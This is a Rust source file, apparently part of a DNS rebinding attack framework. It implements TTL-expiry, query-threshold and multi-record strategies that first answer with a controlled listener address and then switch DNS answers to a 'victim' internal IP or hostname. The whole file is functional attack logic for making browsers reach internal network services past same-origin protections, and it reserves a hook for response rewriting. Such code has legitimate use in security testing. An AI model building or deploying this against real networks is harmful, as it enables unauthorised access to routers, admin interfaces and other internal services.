use std::net::IpAddr;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;

use tokio_util::sync::CancellationToken;
use trust_dns_proto::rr::RecordType;

use crate::addr::Address;
use crate::error::RebindError;
use crate::listener::HttpListener;
use crate::manager::RebindManager;
use crate::pool::AddressFamily;

/// One answer to a DNS question: an address and the TTL to attach.
#[derive(Clone, Debug)]
pub struct DnsAnswer {
    pub ttl: u32,
    pub addr: Address,
}

/// Per-family listener handles a strategy answers with before the
/// rebind lands.
pub struct FamilyListeners {
    v4: Option<Arc<HttpListener>>,
    v6: Option<Arc<HttpListener>>,
}

impl FamilyListeners {
    fn for_qtype(&self, qtype: RecordType) -> Option<&Arc<HttpListener>> {
        match qtype {
            RecordType::A => self.v4.as_ref(),
            RecordType::AAAA => self.v6.as_ref(),
            _ => None,
        }
    }
}

/// Acquires the listeners a strategy for `victim` needs. A name-only
/// victim gets both families because the name's target family is
/// unknown until the CNAME resolves; IP victims get their own family.
pub async fn acquire_family_listeners(
    mgr: &RebindManager,
    scope: &CancellationToken,
    victim: &Address,
) -> Result<FamilyListeners, RebindError> {
    if victim.is_name() || victim.internal_ip.is_none() {
        let v4 = mgr
            .lease_and_acquire(scope, &AddressFamily { ipv6: false }, victim)
            .await?;
        let v6 = mgr
            .lease_and_acquire(scope, &AddressFamily { ipv6: true }, victim)
            .await?;
        Ok(FamilyListeners {
            v4: Some(v4),
            v6: Some(v6),
        })
    } else if victim.is_ipv6() {
        let v6 = mgr
            .lease_and_acquire(scope, &AddressFamily { ipv6: true }, victim)
            .await?;
        Ok(FamilyListeners { v4: None, v6: Some(v6) })
    } else {
        let v4 = mgr
            .lease_and_acquire(scope, &AddressFamily { ipv6: false }, victim)
            .await?;
        Ok(FamilyListeners { v4: Some(v4), v6: None })
    }
}

/// Whether the victim itself can answer a query of this type. CNAME
/// questions belong to name-only victims; address questions to the
/// matching literal family.
fn victim_matches(victim: &Address, qtype: RecordType) -> bool {
    match qtype {
        RecordType::A => matches!(victim.internal_ip, Some(IpAddr::V4(_))),
        RecordType::AAAA => matches!(victim.internal_ip, Some(IpAddr::V6(_))),
        RecordType::CNAME => victim.is_name(),
        _ => false,
    }
}

/// Rebinds after the first answer's TTL expires: the first
/// family-matched query gets a listener address, every later one gets
/// the victim.
pub struct TtlRebind {
    victim: Address,
    ttl: u32,
    primed: AtomicBool,
    listeners: FamilyListeners,
}

impl TtlRebind {
    pub async fn new(
        mgr: &RebindManager,
        scope: &CancellationToken,
        victim: Address,
        ttl: u32,
    ) -> Result<Self, RebindError> {
        let listeners = acquire_family_listeners(mgr, scope, &victim).await?;
        Ok(Self {
            victim,
            ttl,
            primed: AtomicBool::new(false),
            listeners,
        })
    }

    fn handle_dns(&self, qtype: RecordType) -> Vec<DnsAnswer> {
        if let Some(listener) = self.listeners.for_qtype(qtype) {
            if !self.primed.swap(true, Ordering::AcqRel) {
                return vec![DnsAnswer {
                    ttl: self.ttl,
                    addr: listener.addr().clone(),
                }];
            }
        }
        if self.primed.load(Ordering::Acquire) && victim_matches(&self.victim, qtype) {
            return vec![DnsAnswer {
                ttl: self.ttl,
                addr: self.victim.clone(),
            }];
        }
        Vec::new()
    }
}

/// Rebinds after a fixed number of listener answers, for resolvers that
/// ignore low TTLs and re-ask on their own schedule.
pub struct ThresholdRebind {
    victim: Address,
    ttl: u32,
    remaining: AtomicU64,
    listeners: FamilyListeners,
}

impl ThresholdRebind {
    pub async fn new(
        mgr: &RebindManager,
        scope: &CancellationToken,
        victim: Address,
        threshold: u64,
        ttl: u32,
    ) -> Result<Self, RebindError> {
        let listeners = acquire_family_listeners(mgr, scope, &victim).await?;
        Ok(Self {
            victim,
            ttl,
            remaining: AtomicU64::new(threshold),
            listeners,
        })
    }

    fn handle_dns(&self, qtype: RecordType) -> Vec<DnsAnswer> {
        if let Some(listener) = self.listeners.for_qtype(qtype) {
            let took = self
                .remaining
                .fetch_update(Ordering::AcqRel, Ordering::Acquire, |n| n.checked_sub(1));
            if took.is_ok() {
                return vec![DnsAnswer {
                    ttl: self.ttl,
                    addr: listener.addr().clone(),
                }];
            }
        }
        if self.remaining.load(Ordering::Acquire) == 0 && victim_matches(&self.victim, qtype) {
            return vec![DnsAnswer {
                ttl: self.ttl,
                addr: self.victim.clone(),
            }];
        }
        Vec::new()
    }
}

/// Answers listener and victim in one record set, relying on the client
/// falling through to the second record once the listener stops
/// accepting. Reserved: the offer engine does not emit it.
pub struct MultiRecordRebind {
    victim: Address,
    ttl: u32,
    listeners: FamilyListeners,
}

impl MultiRecordRebind {
    pub async fn new(
        mgr: &RebindManager,
        scope: &CancellationToken,
        victim: Address,
        ttl: u32,
    ) -> Result<Self, RebindError> {
        let listeners = acquire_family_listeners(mgr, scope, &victim).await?;
        Ok(Self {
            victim,
            ttl,
            listeners,
        })
    }

    fn handle_dns(&self, qtype: RecordType) -> Vec<DnsAnswer> {
        let Some(listener) = self.listeners.for_qtype(qtype) else {
            return Vec::new();
        };
        let family_ok = match qtype {
            RecordType::A => {
                matches!(self.victim.internal_ip, Some(IpAddr::V4(_))) || self.victim.is_name()
            }
            RecordType::AAAA => {
                matches!(self.victim.internal_ip, Some(IpAddr::V6(_))) || self.victim.is_name()
            }
            _ => false,
        };
        if !family_ok {
            return Vec::new();
        }
        vec![
            DnsAnswer {
                ttl: self.ttl,
                addr: listener.addr().clone(),
            },
            DnsAnswer {
                ttl: self.ttl,
                addr: self.victim.clone(),
            },
        ]
    }
}

/// A method for triggering a rebind: produces DNS answers and may hook
/// the HTTP path of requests addressed to its offer.
pub enum RebindStrategy {
    Ttl(TtlRebind),
    Threshold(ThresholdRebind),
    MultiRecord(MultiRecordRebind),
}

impl RebindStrategy {
    pub fn handle_dns(&self, qtype: RecordType) -> Vec<DnsAnswer> {
        match self {
            RebindStrategy::Ttl(r) => r.handle_dns(qtype),
            RebindStrategy::Threshold(r) => r.handle_dns(qtype),
            RebindStrategy::MultiRecord(r) => r.handle_dns(qtype),
        }
    }

    /// HTTP hook for requests whose Host header names this offer.
    /// Pass-through today; per-flow policies (origin banning, response
    /// rewriting) would land here.
    pub fn observe_http(&self, path: &str) {
        match self {
            RebindStrategy::Ttl(_) | RebindStrategy::Threshold(_) => {}
            RebindStrategy::MultiRecord(_) => log::debug!("{path}"),
        }
    }

    pub fn kind(&self) -> &'static str {
        match self {
            RebindStrategy::Ttl(_) => "ttl",
            RebindStrategy::Threshold(_) => "threshold",
            RebindStrategy::MultiRecord(_) => "multi-record",
        }
    }
}
